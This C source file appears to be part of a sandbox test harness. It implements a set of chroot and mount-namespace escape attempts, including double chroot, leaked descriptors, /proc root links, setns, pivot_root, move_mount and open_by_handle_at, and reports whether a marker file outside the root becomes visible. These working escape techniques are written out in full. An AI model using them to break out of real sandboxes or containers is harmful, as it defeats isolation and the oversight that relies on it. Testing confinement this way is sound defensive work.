// Attacks that lead out of the root. Each says `escaped` once it has read the marker, a file that only the
// outside has; else what kept it in.
#include "probe.h"

#include <dirent.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/syscall.h>

enum { TREE_CLONE = 1, TREE_RECURSIVE = 0x8000, LAST_FD = 4096, HANDLE_SIZE = 128 };

// Takes what a plain user can get: every capability, in a namespace of its own. Where the kernel refuses
// that, an attack goes on with what it has.
void gain(const char *how)
{
    if (!strcmp(how, "nested") && unshare(CLONE_NEWUSER | CLONE_NEWNS))
        errno = 0;
}

static int held(const char *why) { return printf("held: %s\n", why) < 0; }
static int verdict(int out) { return out ? puts("escaped") < 0 : held(strerror(errno)); }

static int seen_from(int directory, const char *marker)
{
    return faccessat(directory, marker + 1, F_OK, 0) == 0;
}

// Goes up from the working directory as far as it leads; whether the marker can be seen from anywhere there.
static int climb(const char *marker)
{
    for (int i = 0; i < 64; i++)
        if (seen_from(AT_FDCWD, marker) || chdir(".."))
            break;
    return seen_from(AT_FDCWD, marker);
}

// A second chroot leaves the working directory above the root.
static int chroot_twice(const char *marker)
{
    mkdir("/work/deeper", 0755);
    int done = chroot("/work/deeper");
    int refused = errno;
    rmdir("/work/deeper");
    errno = refused;
    return !done && climb(marker);
}

// The same by a descriptor of the root.
static int chroot_fd(const char *marker)
{
    int root = open("/", O_PATH | O_DIRECTORY);
    return !chroot("/work/sub") && !fchdir(root) && climb(marker);
}

static int any_fd_directory(const char *marker)
{
    for (int fd = 3; fd < LAST_FD; fd++)
        if (!fchdir(fd) && climb(marker))
            return 1;
    return 0;
}

static int up(const char *marker) { return climb(marker); }

static int through(const char *place, const char *marker)
{
    char path[8192];
    for (int i = 0; i < 24; i++) {
        size_t length = snprintf(path, sizeof path, "%s", place);
        for (int j = 0; j < i; j++)
            length += snprintf(path + length, sizeof path - length, "/..");
        snprintf(path + length, sizeof path - length, "%s", marker);
        if (access(path, F_OK) == 0)
            return 1;
    }
    return 0;
}

static int own_cwd(const char *marker) { return through("/proc/self/cwd", marker); }
static int root_of_1(const char *marker) { return through("/proc/1/root", marker); }

// Whatever `link` is of any process.
static int of_any_process(const char *link, const char *marker)
{
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes && (entry = readdir(processes));) {
        char path[512];
        if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, link);
        if (through(path, marker))
            return 1;
    }
    errno = EACCES;
    return 0;
}

static int any_root(const char *marker) { return of_any_process("root", marker); }
static int any_cwd(const char *marker) { return of_any_process("cwd", marker); }

static int any_fd(const char *marker)
{
    char link[32];
    for (int fd = 0; fd < 64; fd++) {
        snprintf(link, sizeof link, "fd/%d", fd);
        if (of_any_process(link, marker))
            return 1;
    }
    return 0;
}

// Joining one's own mount namespace again leads to its root, whatever one's own is.
static int join_own(const char *marker)
{
    int space = open("/proc/self/ns/mnt", O_RDONLY);
    return space >= 0 && !setns(space, 0) && climb(marker);
}

static int join_of_1(const char *marker)
{
    int space = open("/proc/1/ns/mnt", O_RDONLY);
    return space >= 0 && !setns(space, 0) && climb(marker);
}

static int join_any_fd(const char *marker)
{
    errno = EBADF;
    for (int fd = 3; fd < LAST_FD; fd++)
        if (!setns(fd, 0) && climb(marker))
            return 1;
    return 0;
}

// What was the root before may be below this one.
static int pivot_again(const char *marker)
{
    if (mount("/", "/work/sub", NULL, MS_BIND | MS_REC, NULL) || chdir("/work/sub") ||
        syscall(SYS_pivot_root, ".", "."))
        return 0;
    for (int i = 0; i < 8 && !climb(marker); i++)
        if (umount2(".", MNT_DETACH))
            break;
    return climb(marker) || through("/", marker);
}

// Joining one's own mounts leads to their root, from wherever one is.
static int uncover_root(const char *marker)
{
    int space = open("/proc/self/ns/mnt", O_RDONLY);
    if (umount2("/", MNT_DETACH) || setns(space, 0))
        return 0;
    return climb(marker);
}

// Copies of what may still be reached of old roots.
static int move_old_root(const char *marker)
{
    const char *places[] = {"/..", "/proc/1/root", "/proc/1/cwd", "/proc/self/cwd/.."};
    int refused = ENOENT;
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        int tree = syscall(SYS_open_tree, AT_FDCWD, places[i], TREE_CLONE | TREE_RECURSIVE);
        if (tree < 0)
            refused = errno;
        else if (syscall(SYS_move_mount, tree, "", AT_FDCWD, "/work/sub", 4))
            refused = errno;
        if (through("/work/sub", marker) || (tree >= 0 && seen_from(tree, marker)))
            return 1;
    }
    errno = refused;
    return 0;
}

// A mount on top of the root: `..` of a root leads to what is on it.
static int mount_over_root(const char *marker)
{
    return !mount("probe", "/", "tmpfs", 0, NULL) && (through("/..", marker) || join_own(marker));
}

static const struct { const char *name; int (*attack)(const char *marker); } ways[] = {
    {"chroot-twice", chroot_twice}, {"chroot-fd", chroot_fd}, {"fchdir", any_fd_directory},
    {"up", up}, {"proc-self-cwd", own_cwd}, {"proc-1-root", root_of_1}, {"proc-root", any_root},
    {"proc-cwd", any_cwd}, {"proc-fd", any_fd}, {"join-own", join_own}, {"join-1", join_of_1},
    {"join-fd", join_any_fd}, {"pivot", pivot_again}, {"uncover", uncover_root},
    {"move-mount", move_old_root}, {"mount-over", mount_over_root},
};

// break-out plain|nested WAY MARKER
static int break_out(char **words)
{
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
        if (!strcmp(ways[i].name, words[1])) {
            gain(words[0]);
            return verdict(ways[i].attack(words[2]));
        }
    return 99;
}

// handle PATH: what open_by_handle_at(2) finds a file by, in hexadecimal.
static int handle(char **words)
{
    struct { struct file_handle head; unsigned char rest[HANDLE_SIZE]; } of = {{HANDLE_SIZE, 0}, {0}};
    int mount;
    if (name_to_handle_at(AT_FDCWD, words[0], &of.head, &mount, 0))
        return report(-1);
    const unsigned char *bytes = (void *)&of;
    for (size_t i = 0; i < sizeof of.head + of.head.handle_bytes; i++)
        printf("%02x", bytes[i]);
    puts("");
    return 0;
}

// by-handle plain|nested HANDLE: opens it on the file system of the working directory.
static int by_handle(char **words)
{
    struct { struct file_handle head; unsigned char rest[HANDLE_SIZE]; } of;
    unsigned char *bytes = (void *)&of;
    char text[16] = "", pair[3] = "";
    for (size_t i = 0; i < sizeof of && words[1][2 * i]; i++) {
        memcpy(pair, words[1] + 2 * i, 2);
        bytes[i] = strtol(pair, NULL, 16);
    }
    gain(words[0]);
    int fd = open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY), &of.head, O_RDONLY);
    return verdict(fd >= 0 && read(fd, text, 7) == 7 && !strcmp(text, "outside"));
}

// moved TO MARKER: says that it stands in /work/sub, waits for a line, and goes up.
static int moved(char **words)
{
    char line;
    if (chdir(words[0]))
        return report(-1);
    puts("standing");
    fflush(stdout);
    return read(0, &line, 1) == 1 ? verdict(climb(words[1])) : 1;
}

// fresh-proc DIR: a proc without the parts that are covered. Opened only, not written to.
static int fresh_proc(char **words)
{
    char path[512];
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID))
        return report(-1);
    fflush(stdout);
    if (fork() == 0) {
        snprintf(path, sizeof path, "%s/sys/kernel/core_pattern", words[0]);
        if (mount("proc", words[0], "proc", 0, NULL))
            _exit(report(-1));
        _exit(verdict(open(path, O_WRONLY) >= 0));
    }
    wait(NULL);
    return 0;
}

const struct command escape_files_commands[] = {
    {"break-out", 3, break_out}, {"handle", 1, handle}, {"by-handle", 2, by_handle},
    {"moved", 2, moved},         {"fresh-proc", 1, fresh_proc}, {NULL, 0, NULL},
};
